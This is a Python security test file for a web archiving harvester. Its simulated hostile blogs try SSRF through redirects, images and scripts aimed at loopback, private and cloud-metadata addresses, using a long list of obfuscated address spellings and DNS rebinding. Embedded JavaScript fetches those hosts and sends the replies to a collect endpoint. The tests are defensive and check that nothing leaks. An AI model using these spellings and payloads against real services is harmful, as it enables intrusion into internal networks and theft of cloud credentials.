"""A blog that wants the machines behind the firewall of those who harvest it."""

from tests.hostile.archive_search import ledger_entries, posts, where
from tests.hostile.attack import attack
from tests.hostile.ground import Ground
from tests.hostile.hostile_blog import PICTURES, POSTS, hostile_blog
from tests.hostile.isolation import PUBLIC, PUBLIC_6, SECOND_PUBLIC, SECRET, Canary, canaries, isolated
from tests.loopback import Answer, address, respond, serving

UNREACHABLE = 4
_REFUSED = "failed: it is an address of a private network"
BLOG = "blog.test"
_PUBLIC_BLOG = {BLOG: ((PUBLIC,),)}
_HIDDEN = {
    "private-4.test": (("10.9.8.7",),),
    "private-6.test": (("fd00::5",),),
    "metadata.test": (("169.254.169.254",),),
    "loopback.test": (("127.0.0.1",), ("::1",)),
    "mapped.test": (("::ffff:127.0.0.1",),),
    "nat64.test": (("64:ff9b::7f00:1",),),
    "6to4.test": (("2002:7f00:1::",),),
}
_LITERALS = (
    "127.0.0.1", "localhost", "localhost.", "2130706433", "0x7f.1", "0x7f000001", "0177.0.0.1", "127.1", "0",
    "169.254.169.254", "10.9.8.7", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::7f00:1]", "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]", "[fd00::5]", "１２７.０.０.１", "127。0。0。1",
)  # fmt: skip
_SPELLINGS = (*_LITERALS, *_HIDDEN, *(f"{name}." for name in _HIDDEN))


def _nobody_came(ground: Ground, canary: Canary) -> None:
    assert canary.visited == []
    assert where(SECRET, ground.archive) == []


@attack("private networks", "links, pictures and redirects to private machines in every spelling")
@isolated
def every_spelling(ground: Ground) -> None:
    hostile: dict[str, Answer] = {
        f"/to-{number}": respond(302, Location=f"http://{spelling}/".encode().decode("latin-1"))
        for number, spelling in enumerate(_SPELLINGS)
    }
    hostile |= {
        picture: respond(302, Location=f"http://{name}/p.png")
        for picture, name in zip(PICTURES, [*_HIDDEN, *_HIDDEN], strict=False)
    }
    hostile |= {
        "/sitemap.xml": respond(302, Location="http://loopback.test/sitemap.xml"),
        "/feed2": respond(302, Location="http://metadata.test/feed"),
    }
    pictures = "".join(f"<img src='http://{name}/'><a href='http://{name}/'>x</a>" for name in _SPELLINGS)
    more = f"{pictures}<link rel=alternate type='application/rss+xml' href='/feed2'>"
    with (
        canaries({**_PUBLIC_BLOG, **_HIDDEN}) as canary,
        hostile_blog(hostile, host=PUBLIC, name=BLOG, more=more) as (
            home,
            server,
        ),
    ):
        run = ground.harvest(home)
        assert run.code == 0, run.errors
        assert run.errors == ""
        assert {"/to-0", "/feed2", *PICTURES[:1]} <= set(server.asked)
        _nobody_came(ground, canary)
    assert posts(ground.archive) == POSTS
    assert _REFUSED in ledger_entries(ground.archive).values()


@attack("private networks", "a start name with a public and several private addresses", repeats=True)
@isolated
def mixed_start(ground: Ground) -> None:
    names = {BLOG: ((PUBLIC, "10.9.8.7", "127.0.0.1", "fd00::5"),), **_HIDDEN}
    hostile = {path: respond(302, Location="http://127.0.0.1/") for path in (*PICTURES, "/to")}
    with canaries(names) as canary, hostile_blog(hostile, host=PUBLIC, name=BLOG) as (home, _):
        run = ground.harvest(home)
        assert run.code == 0, run.errors
        _nobody_came(ground, canary)
    assert posts(ground.archive) == POSTS


@attack("private networks", "a start name that is public at the first look and this machine at the second")
@isolated
def rebinding(ground: Ground) -> None:
    names = {BLOG: ((PUBLIC,), ("10.9.8.7", "127.0.0.1"))}
    with canaries(names) as canary, hostile_blog({}, host=PUBLIC, name=BLOG) as (home, _):
        run = ground.harvest(home)
        assert run.code == UNREACHABLE
        assert "it is an address of a private network" in run.errors
        _nobody_came(ground, canary)


@attack("private networks", "names of pictures that turn into names of this machine", repeats=True)
@isolated
def rebinding_pictures(ground: Ground) -> None:
    turning = {"at-once.test": ((PUBLIC,), ("127.0.0.1",)), "later.test": ((PUBLIC,), (PUBLIC,), ("::1",))}
    hosts = ["at-once.test", "later.test"] * len(PICTURES)
    hostile = {
        path: respond(302, Location=f"http://{host}{path}2") for path, host in zip(PICTURES, hosts, strict=False)
    }
    with canaries({**_PUBLIC_BLOG, **turning}) as canary, hostile_blog(hostile, host=PUBLIC, name=BLOG) as (home, _):
        run = ground.harvest(home)
        assert run.code == 0, run.errors
        _nobody_came(ground, canary)
    assert posts(ground.archive) == POSTS


@attack("private networks", "a name that is this machine at the first look, to have the guard lifted")
@isolated
def rebinding_before(ground: Ground) -> None:
    names = {BLOG: (("fd00::5",), (PUBLIC,)), **_HIDDEN}
    hostile = {path: respond(302, Location="http://10.9.8.7/") for path in (*PICTURES, "/to")}
    with canaries(names) as canary, hostile_blog(hostile, host=PUBLIC, name=BLOG) as (home, server):
        ground.harvest(home)
        assert server.asked == []
        assert set(canary.visited) <= {"fd00::5"}  # which the user named


@attack("private networks", "scripts that ask private machines by GET and POST", slow=True)
@isolated
def scripts(ground: Ground) -> None:
    sent: list[str] = []

    def collect(handler) -> None:
        sent.append(handler.path)
        respond(200, "ok")(handler)

    asked = [f"http://{name}/" for name in _SPELLINGS] + ["/to"]
    script = f"""<div id=app></div><script>
        const send = (text) => fetch("/collect?" + encodeURIComponent(text.slice(0, 100)));
        for (const where of {asked}) for (const method of ["GET", "POST"])
            fetch(where, {{method}}).then((answer) => answer.text()).then(send, () => send("refused"));
        for (const where of {asked}) document.write(`<script src="${{where}}"><\\/script><iframe src="${{where}}"></iframe>`);
    </script>"""  # noqa: E501 - as a page has it
    hostile = {
        "/": respond(200, f"<!doctype html><title>Shell</title>{script}"),
        "/to": respond(307, Location="http://loopback.test/"),
        "*": collect,
    }
    names = {**_PUBLIC_BLOG, **_HIDDEN}
    with canaries(names) as canary, hostile_blog(hostile, host=PUBLIC, name=BLOG) as (home, _):
        ground.harvest(home, "--render", "always", "--max-pages", 1, within=180)
        _nobody_came(ground, canary)
    assert any("refused" in path for path in sent)
    assert [path for path in sent if SECRET.decode() in path] == []


@attack("private networks", "scripts of a private blog that ask its neighbours", slow=True)
@isolated
def neighbours(ground: Ground) -> None:
    sent: list[str] = []

    def collect(handler) -> None:
        sent.append(handler.path)
        respond(200, "ok")(handler)

    asked = [
        "http://localhost/",
        "http://[::1]/",
        "http://2130706433/",
        "http://private-6.test/",
        "http://169.254.169.254/",
    ]
    own = ["http://blog-too.test:8080/own", "http://10.9.8.7:8080/own", "/own"]
    script = f"""<div id=app></div><script>
        const send = (text) => fetch("/collect?" + encodeURIComponent(text.slice(0, 100)));
        for (const where of {asked + own})
            fetch(where).then((answer) => answer.text()).then((text) => send(text + where), () => send("refused"));
    </script>"""
    site = {
        "/": respond(200, f"<!doctype html><title>Shell</title>{script}"),
        "/own": respond(200, "own-words", Access_Control_Allow_Origin="*"),
        "/robots.txt": respond(404),
        "*": collect,
    }
    names = {BLOG: (("10.9.8.7",),), "blog-too.test": (("10.9.8.7",),), **_HIDDEN}
    with canaries(names) as canary, serving(site, host="10.9.8.7", port=8080):
        ground.harvest(f"http://{BLOG}:8080/", "--render", "always", "--max-pages", 1, within=180)
        _nobody_came(ground, canary)
    assert any("refused" in path for path in sent)
    assert len([path for path in sent if "own-words" in path]) == len(own)


@attack("same origin", "scripts that read other sites which do not allow it", slow=True)
@isolated
def cross_origin(ground: Ground) -> None:
    secret, allowed = "the-words-of-another-site", "the-words-of-a-willing-site"
    sent: list[str] = []

    def collect(handler) -> None:
        sent.append(handler.path)
        respond(200, "ok")(handler)

    other: dict[str, Answer] = {
        "/secret": respond(200, secret, Access_Control_Allow_Origin="http://somebody.test"),
        "/willing": respond(200, allowed, Access_Control_Allow_Origin=f"http://{BLOG}"),
        "/script.js": respond(200, "fetch('/collect?ran')", Content_Type="text/javascript"),
        "/robots.txt": respond(404),
        "*": respond(200, secret),
    }
    script = """<div id=app></div><script>
        const send = (text) => fetch("/collect?" + encodeURIComponent(text.slice(0, 100)));
        const ask = (...asked) => fetch(...asked).then((answer) => answer.text()).then(send, () => send("refused"));
        for (const where of ["plain", "secret", "willing"]) ask(`http://other.test/${where}`);
        ask("/to"); ask("http://other.test/p", {method: "POST", body: "x"});
        ask("http://other.test/q", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"});
        ask("http://other.test/r", {headers: {"X-Requested-With": "x"}});
    </script><script src="http://other.test/script.js"></script>"""
    hostile = {
        "/": respond(200, f"<!doctype html><title>Shell</title>{script}"),
        "/to": respond(302, Location="http://other.test/plain"),
        "*": collect,
    }
    names = {**_PUBLIC_BLOG, "other.test": ((SECOND_PUBLIC,),)}
    with (
        canaries(names),
        hostile_blog(hostile, host=PUBLIC, name=BLOG) as (home, _),
        serving(other, host=SECOND_PUBLIC, port=80),
    ):
        ground.harvest(home, "--render", "always", "--max-pages", 1, within=180)
    assert sum(secret in path for path in sent) == 0
    assert sum(allowed in path for path in sent) > 0
    assert "/collect?ran" in sent
    assert sent.count("/collect?refused") > 0


@attack("private networks", "a blog that has IPv6 addresses only, by name and by literal, is no attack", repeats=True)
@isolated
def ipv6_only(ground: Ground) -> None:
    with canaries({BLOG: ((PUBLIC_6,),)}), hostile_blog({}, host=PUBLIC_6, name=BLOG) as (home, _):
        run = ground.harvest(home)
        assert run.code == 0, run.errors
    assert posts(ground.archive) == POSTS
    with hostile_blog({}, host="::1") as (home, server):
        assert home == address(server)
        run = ground.harvest(home)
        assert run.code == 0, run.errors
    assert posts(ground.archive) == 2 * POSTS
    assert where(f"WARC-Target-URI: {home}".encode(), ground.archive)
    assert where(f"Host: {home.split('/')[2]}\r\n".encode(), ground.archive)
